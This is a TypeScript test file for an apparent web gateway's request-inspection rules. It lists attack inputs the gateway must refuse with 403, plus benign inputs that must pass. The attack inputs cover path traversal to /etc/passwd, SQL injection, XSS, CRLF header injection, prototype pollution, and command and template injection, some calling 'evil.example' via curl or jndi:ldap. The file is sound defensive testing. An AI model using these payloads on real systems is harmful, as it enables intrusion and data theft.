import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { StartError, systemClock } from "../base/index.ts";
import { t } from "../schema/index.ts";
import { method, raw } from "../service/index.ts";
import { createLogger, createMetrics } from "../telemetry/index.ts";
import { createMemoryDestination } from "../telemetry/testing.ts";
import type { Gateway } from "./gateway.ts";
import type { InspectOptions } from "./inspection.ts";
import { compileInspection } from "./inspection.ts";
import { ask, request, silent, testGateway } from "./testing.ts";

const text = t.Object({ text: t.String() });
const methods = {
  any: { method: raw({ http: "GET /any/*", access: "public" }), handle: () => ({ body: "let in" }) },
  post: {
    method: method({ http: "POST /post", access: "public", request: text, response: text }),
    handle: (given: unknown) => given,
  },
};
const open: Gateway[] = [];
after(async () => {
  for (const gateway of open) await gateway.stop();
});

async function serve(inspect: InspectOptions, more: object = {}): Promise<number> {
  const gateway = testGateway(methods, { inspect, ...more });
  open.push(gateway);
  return (await gateway.start()).port;
}

let port = 0;
before(async () => {
  port = await serve({ mode: "refuse", body: "16kb" });
});

/** Attacks by the rule that must see them. */
const attacks: readonly (readonly [rule: string, target: string])[] = [
  ["path-traversal", "/any/../../etc/passwd"],
  ["path-traversal", "/any/%2e%2e/%2e%2e/etc/passwd"],
  ["path-traversal", "/any/%252e%252e%252fsecret"],
  ["path-traversal", "/any/..%2f..%2fsecret"],
  ["path-traversal", "/any/..%5c..%5csecret"],
  ["path-traversal", "/any/..;/admin"],
  ["path-traversal", "/any/x?file=../../../etc/passwd"],
  ["path-traversal", "/any/x?file=..%2F..%2Fsecret"],
  ["path-traversal", "/any/x?file=/etc/passwd"],
  ["path-traversal", "/any/x?url=file:///etc/hosts"],
  ["nul", "/any/x%00.png"],
  ["nul", "/any/x?file=a%00b"],
  ["nul", "/any/x?file=a%2500b"],
  ["line-break", "/any/x%0d%0aset-cookie:a=b"],
  ["line-break", "/any/x?next=/%0d%0aLocation:%20https://evil.example"],
  ["line-break", "/any/x?next=%0aSet-Cookie:%20a=b"],
  ["sql", "/any/x?id=1'%20OR%20'1'='1"],
  ["sql", "/any/x?id=1'+or+1=1--"],
  ["sql", "/any/x?id=1%20UNION%20ALL%20SELECT%20password%20FROM%20users"],
  ["sql", "/any/x?id=1';DROP%20TABLE%20users;--"],
  ["sql", "/any/x?id=1;select+pg_sleep(10)"],
  ["sql", "/any/x?name=admin'--"],
  ["script", "/any/x?q=%3Cscript%3Ealert(1)%3C/script%3E"],
  ["script", "/any/x?q=%3Cimg%20src=x%20onerror=alert(1)%3E"],
  ["script", "/any/x?q=javascript:alert(1)"],
  ["script", "/any/x?q=%253Cscript%253E"],
  ["command", "/any/x?host=a;cat%20/etc/hosts"],
  ["command", "/any/x?host=a%7Cwhoami%20-a"],
  ["command", "/any/x?host=$(curl%20evil.example)"],
  ["template", "/any/x?q=$%7Bjndi:ldap://evil.example/a%7D"],
  ["template", "/any/x?q=%7B%7B7*7%7D%7D"],
  ["prototype", "/any/x?__proto__[admin]=1"],
  ["prototype", "/any/x?constructor[prototype][admin]=1"],
  ["encoding", "/any/x?file=%c0%ae%c0%ae/secret"],
  ["encoding", "/any/x?q=%u002e%u002e"],
];

describe("shapes of attacks", () => {
  test(`${attacks.length} of them are refused with 403, by the rule that they break`, async () => {
    for (const [rule, target] of attacks) {
      const answer = await ask(port, request(`GET ${target}`));
      assert.equal(answer.status, 403, `${target}: ${answer.body}`);
      const { reason, rule: named } = JSON.parse(answer.body) as { reason: string; rule: string };
      assert.deepEqual([reason, named], ["REQUEST_SUSPICIOUS", rule], target);
    }
  });

  test("what people, and ordinary programs, send is let through", async () => {
    const ordinary = [
      "/any/products/42?sort=-price&limit=20&fields=id,name",
      "/any/a.b..c/file...txt",
      "/any/M%C3%BCller%20%26%20S%C3%B6hne",
      "/any/x?q=O'Reilly",
      "/any/x?q=rock+%27n%27+roll",
      "/any/x?q=select+a+union+rep+from+the+list",
      "/any/x?q=this+or+that+%3D+fine",
      "/any/x?q=1+%3C+2+and+3+%3E+2",
      "/any/x?q=%3C3+you",
      "/any/x?q=drop+the+table+on+the+floor",
      "/any/x?q=C%23+and+F%23",
      "/any/x?q=how+to+use+../config",
      "/any/x?filter=price%3E10%3Bname%3Dabc",
      "/any/x?filter=%7B%22a%22%3A%5B1%2C2%5D%7D",
      "/any/x?redirect=https%3A%2F%2Fshop.example%2Fa%3Fb%3Dc%26d%3D%2525",
      "/any/x?text=line+one%0Aline+two%0D%0Aline+three",
      "/any/x?email=a%2Bb%40c.example&discount=100%25",
      "/any/x?token=eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln--x",
      "/any/x?date=2026-11-22T10%3A00%3A00%2B01%3A00&id=550e8400-e29b-41d4-a716-446655440000",
      "/any/x?q=the+constructor+of+the+house&cat=pets&sh=1;id=2",
      "/any/x?q=%E6%97%A5%E6%9C%AC%E8%AA%9E&emoji=%F0%9F%98%80",
      "/any/x?cursor=AQIDBA%3D%3D&path=/etc/ca-certificates",
      "/any/x?q=$5+%7C+%E2%82%AC4&q2=%60code%60&price=$%7Bamount%7D",
      "/any/x?q=tom+and+'jerry'&q2=it's+1+of+2",
    ];
    for (const target of ordinary) {
      const answer = await ask(port, request(`GET ${target}`));
      assert.equal(answer.status, 200, `${target}: ${answer.body}`);
    }
  });

  test("in a JSON body too, where that is declared and the body is small", async () => {
    const post = (value: unknown, into = port) => ask(into, request("POST /post", {}, JSON.stringify(value)));
    assert.equal((await post({ text: "1' OR '1'='1" })).status, 403);
    assert.equal((await post({ text: "<script>alert(1)</script>" })).status, 403);
    assert.equal((await ask(port, request("POST /post", {}, '{"text":"\\u003cscript>"}'))).status, 403);
    assert.equal((await ask(port, request("POST /post", {}, '{"text":"a","__proto__":{"admin":true}}'))).status, 403);
    assert.equal((await post({ text: "O'Reilly says: 1 < 2 & it's fine; {ok} 100%" })).status, 200);
    assert.equal((await post({ text: `<script>${"a".repeat(20_000)}` })).status, 200);
    const headOnly = await serve({ mode: "refuse" });
    assert.equal((await post({ text: "<script>" }, headOnly)).status, 200);
  });

  test("the time it takes grows with the text and no faster", () => {
    const inspection = compileInspection(
      { mode: "refuse", body: "64kb" },
      { clock: systemClock, log: silent(), metrics: undefined },
    );
    const pieces = [
      "'",
      "' or ",
      "<a ",
      "union ",
      "../",
      "%25",
      "$(",
      ";;;",
      "{{ 1",
      "\\u00",
      "--",
      "<a on",
      "' ' ",
      '"(',
    ];
    const shapes = pieces.flatMap((piece) => [piece, `${piece}${" ".repeat(30)}`, `x${piece}y`]);
    for (const piece of shapes) {
      const body = Buffer.from(piece.repeat(Math.ceil(65_000 / piece.length)).slice(0, 65_000));
      const exchange = { headers: { "content-type": "application/json" }, route: "", remote: "", span: undefined };
      const startedAt = performance.now();
      try {
        inspection?.body?.(exchange as never, body);
      } catch {
        // Refused is as good as let through here.
      }
      assert.ok(performance.now() - startedAt < 250, JSON.stringify(piece));
    }
  });
});

describe("what is done about them", () => {
  test("observing lets them pass, counts them, and logs where without what", async () => {
    const metrics = createMetrics();
    const destination = createMemoryDestination();
    const log = createLogger({ level: "warn", destination });
    const observing = await serve({ mode: "observe" }, { metrics, log });
    for (let i = 0; i < 30; i++) {
      assert.equal((await ask(observing, request("GET /any/x?q=%3Cscript%3Esecret"))).status, 200);
    }
    assert.match((await metrics.render()).body, /inspected_total\{rule="script",outcome="observed"\} 30\n/);
    await log.flush?.();
    const lines = destination.records.filter(({ rule }) => rule === "script");
    assert.equal(lines.length, 20);
    assert.doesNotMatch(destination.text, /secret/);
  });

  test("rules can be left out, and added; a function may look at the head", async () => {
    const own = await serve({
      mode: "refuse",
      without: ["script", "sql"],
      rules: [{ name: "no-cats", in: ["query"], pattern: /\bcats\b/i }],
      check: ({ headers, method: verb, path, query, address }) => {
        assert.deepEqual([verb, path.startsWith("/any"), typeof query, address], ["GET", true, "string", "127.0.0.1"]);
        return headers["user-agent"] === "scanner" ? "scanner" : undefined;
      },
    });
    assert.equal((await ask(own, request("GET /any/x?q=%3Cscript%3E"))).status, 200);
    assert.equal((await ask(own, request("GET /any/x?q=Cats"))).status, 403);
    assert.equal((await ask(own, request("GET /any/x", { "user-agent": "scanner" }))).status, 403);
    assert.equal((await ask(own, request("GET /any/x", { "user-agent": "browser" }))).status, 200);
  });

  test("a declaration that means nothing is refused at start", () => {
    const refused = (inspect: unknown, words: RegExp) =>
      assert.throws(
        () => testGateway({}, { inspect: inspect as InspectOptions }),
        (thrown) => thrown instanceof StartError && thrown.reason === "INSPECT_INVALID" && words.test(thrown.message),
      );
    refused({ mode: "on" }, /write "observe" or "refuse"/);
    refused({ mode: "observe", without: ["xss"] }, /there is no rule "xss"; there are path-traversal, nul/);
    refused({ mode: "observe", rules: [{ name: "A", in: ["path"], pattern: /a/ }] }, /small letters/);
    refused({ mode: "observe", rules: [{ name: "a", in: ["path"], pattern: /a/g }] }, /without the flags g and y/);
    refused({ mode: "observe", rules: [{ name: "a", in: [], pattern: /a/ }] }, /say what it looks at/);
    refused({ mode: "observe", body: "1mb" }, /write a size up to "64kb"/);
  });
});
